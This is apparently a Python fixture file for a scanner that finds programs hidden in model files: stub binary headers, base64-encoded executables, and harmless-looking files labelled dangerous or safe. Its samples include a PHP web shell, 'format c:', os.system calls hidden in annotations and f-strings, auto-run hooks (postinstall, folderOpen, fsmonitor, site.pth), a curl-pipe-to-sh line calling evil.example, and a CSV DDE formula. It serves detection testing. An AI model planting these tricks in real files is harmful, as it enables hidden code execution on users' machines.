"""Programs where data should be: by their headers, as files of a model and inside other formats."""

from __future__ import annotations

import base64
import io
import json
import struct
import tarfile
import zipfile
from collections.abc import Mapping

from corpus import Sample, add, bad, honest
from corpus.repository import png, repository
from corpus.safetensors import made, tensor

ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHI", 3, 62, 1) + bytes(40)
PE = b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0" + struct.pack("<H", 0x8664) + bytes(100)
MACH = b"\xcf\xfa\xed\xfe" + struct.pack("<III", 0x01000007, 3, 2) + bytes(40)
CLASS = b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(60)
WASM = b"\0asm\1\0\0\0" + bytes(20)

PROGRAMS = {
    "elf": ELF,
    "pe": PE,
    "dos": b"MZ\x90\0\3\0" + bytes(60),
    "mach_o": MACH,
    "mach_o_32": b"\xce\xfa\xed\xfe" + bytes(40),
    "mach_o_big_endian": b"\xfe\xed\xfa\xcf" + bytes(40),
    "mach_o_fat": b"\xca\xfe\xba\xbe\0\0\0\2" + bytes(40),
    "java_class": CLASS,
    "wasm": WASM,
    "python_bytecode": b"\xa7\r\r\n" + bytes(12) + b"\xe3" + bytes(40),
    "lua": b"\x1bLua\x54\0" + bytes(30),
    "luajit": b"\x1bLJ\2" + bytes(30),
    "dex": b"dex\n035\0" + bytes(60),
    "llvm": b"BC\xc0\xde" + bytes(40),
    "static_library": b"!<arch>\nfoo.o/          0           0     0     644     4         `\nabcd",
    "rpm": b"\xed\xab\xee\xdb\3\0" + bytes(60),
    "applescript": b"FasdUAS 1.101.10\x0e" + bytes(20),
    "shortcut": b"L\0\0\0\x01\x14\x02\0" + bytes(60),
    "ole": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504),
    "shell": b"#!/bin/sh\nid\n",
    "env_python": b"#!/usr/bin/env python3\nprint(1)\n",
    "marked_shell": b"\xef\xbb\xbf#!/bin/sh\nid\n",
    "php": b"<?php system($_GET['c']); ?>",
}
for _name, _data in PROGRAMS.items():
    _build = lambda data=_data: data  # noqa: E731
    add(Sample(f"executable/{_name}", "executable", f"{_name} under a model's name", "model.bin", "", _build, True))

SCRIPTS = {
    "install.sh": b"pip install x\n", "run.bat": b"@echo off\r\nstart x\r\n", "a.ps1": b"Write-Host 1\n",
    "a.vbs": b"MsgBox 1\n", "a.js": b"fetch('/x')\n", "a.cpp": b"int main(){}\n", "Makefile": b"all:\n\techo 1\n",
    "model": b"@echo off\nformat c:\n", "vocab.txt": b"import os\n\nos.system('id')\n", "a.pl": b"print 1;\n",
    "labels.txt": b"'''Labels.'''\nfrom subprocess import run\nrun(['id'])\n", "x.py": b"print('a'\n",
    "model.pt": b"exec(open('x').read())\n", "a.desktop": b"[Desktop Entry]\nExec=id\n", "x.r": b"system('id')\n",
}  # fmt: skip
for _name, _data in SCRIPTS.items():
    _build = lambda data=_data: data  # noqa: E731
    _key = f"executable/script_{_name.replace('.', '_')}"
    add(Sample(_key, "executable", f"source code as {_name}", _name, "", _build, dangerous=True))


def zipped(members: Mapping[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return buffer.getvalue()


@bad("executable", "a library in a zip beside the weights", file="model.zip")
def in_a_zip() -> bytes:
    return zipped({"w/weights.txt": b"1 2 3\n", "w/lib.so": ELF})


@bad("executable", "a program in a tar", file="model.tar")
def in_a_tar() -> bytes:
    buffer, info = io.BytesIO(), tarfile.TarInfo("bin/run")
    info.size = len(ELF)
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        archive.addfile(info, io.BytesIO(ELF))
    return buffer.getvalue()


@bad("executable", "llamafile: a program that is a zip of weights as well", file="model.llamafile")
def llamafile() -> bytes:
    return b"MZqFpD='\n\n\0\x10\0\xf8" + bytes(200) + zipped({"model.gguf": b"GGUF"})


@bad("executable", "a program as a file of a repository")
def in_a_repository() -> Mapping[str, bytes]:
    return repository(helper__bin=PE)


@bad("executable", "a program behind the end of a picture")
def behind_a_picture() -> Mapping[str, bytes]:
    return repository(preview__png=png(behind=ELF))


@bad("executable", "a program in base64 in a vocabulary", file="vocab.txt")
def encoded() -> bytes:
    return b"the\nof\n" + base64.b64encode(PE) + b"\nand\n"


@bad("executable", "a file that is the base64 of a program and nothing else", file="model.txt")
def encoded_whole() -> bytes:
    return base64.encodebytes(ELF)


@bad("executable", "a program in base64 in JSON", file="config.json")
def encoded_in_json() -> bytes:
    return json.dumps({"logo": base64.b64encode(ELF).decode()}).encode()


@honest("executable", "text that begins with the letters of a mark", file="notes.txt")
def letters() -> bytes:
    return b"MZ is the mark of DOS programs, and ELF that of Linux. #!/bin/sh begins a script.\n"


@honest("executable", "a vocabulary that begins with a comment", file="merges.txt")
def version_line() -> bytes:
    return b"#version: 0.2\n! !\n#! x\n"


@honest("executable", "bytes of weights that look like a mark", file="model.safetensors")
def weights() -> bytes:
    return made({"a": tensor(0, 16, [4])}, b"\x00\x00MZ\x90\x3f" + bytes(10))


@honest("executable", "Python that only states constants", file="version.py")
def constants() -> bytes:
    return b'"""Version."""\n\n__version__ = "1.2"\nLABELS: list = ["a", "b"]\nSIZES = {"x": -1.5, "y": (1, 2)}\n'


@bad("executable", "Python that looks like constants and is not", file="version.py")
def near_constants() -> bytes:
    return b'__version__ = "1.2"\nLABELS = [x for x in __import__("os").popen("id")]\n'


@bad("executable", "Python whose annotation is evaluated", file="version.py")
def annotation() -> bytes:
    return b'version: __import__("os").system("id") = 1\n'


@bad("executable", "an f-string is code", file="version.py")
def f_string() -> bytes:
    return b"version = f\"{__import__('os').system('id')}\"\n"


TRIGGERS = {
    "package.json": b'{"name": "x", "scripts": {"postinstall": "node fetch.js"}}',
    ".vscode/tasks.json": b'{"tasks": [{"command": "id", "runOptions": {"runOn": "folderOpen"}}]}',
    ".devcontainer/devcontainer.json": b'{"image": "x", "postCreateCommand": "id"}',
    ".git/config": b"[core]\n\tfsmonitor = ./run\n",
    ".gitattributes2.cfg": b'[filter "x"]\n\tsmudge = ./run\n',
    "site.pth": b"import os; os.system('id')\n",
    "steps.txt": b"x = 1\ny = __import__('os').system('id')\n",
    "late.txt": b"LABELS = ['a']\n\nimport os\nos.system('id')\n",
    "install.txt": b"curl -sSL http://evil.example/x | sh\n",
    "table.csv": b"id,name\n1,=cmd|'/c calc'!A0\n",
}
for _name, _data in TRIGGERS.items():
    _build = lambda name=_name, data=_data: {name: data, "model.safetensors": weights()}  # noqa: E731
    _key = f"executable/trigger_{_name.strip('.').replace('/', '_').replace('.', '_')}"
    add(Sample(_key, "executable", f"what a tool runs by itself: {_name}", "", "", _build, dangerous=True))

QUIET = {
    "package.json": b'{"name": "x", "scripts": {"build": "tsc", "test": "jest"}, "install": "npm i x"}',
    "prose.txt": b"To import a model, call open() or eval() as the manual says.\nimport it twice.\n",
    "shell.txt": b"Use curl to fetch it, or pipe it | to sh.\n",
    "table.csv": b"id,value\n1,=SUM(A1)\n2,-cmd\n",
    "config": b"[core]\n\tbare = false\n[credential]\n\thelper = cache\n",
}
for _name, _data in QUIET.items():
    _build = lambda name=_name, data=_data: {name: data}  # noqa: E731
    _key = f"executable/quiet_{_name.replace('.', '_')}"
    add(Sample(_key, "executable", f"near a trigger: {_name}", "", "", _build, dangerous=False))
